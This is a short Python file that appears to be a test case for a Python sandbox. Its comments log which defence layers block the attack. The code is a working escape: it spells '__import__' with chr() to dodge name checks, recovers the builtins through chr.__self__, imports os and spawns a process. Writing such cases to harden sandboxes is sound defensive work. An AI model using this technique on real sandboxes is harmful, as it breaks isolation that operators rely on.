# attack: builtins recovery
# stops: guards: variable 'chr' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# chr() to spell __import__ where no check reads it
name = chr(95) * 2 + "import" + chr(95) * 2
module = getattr(chr, chr(95) * 2 + "self" + chr(95) * 2)
os = getattr(module, name)("os")
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
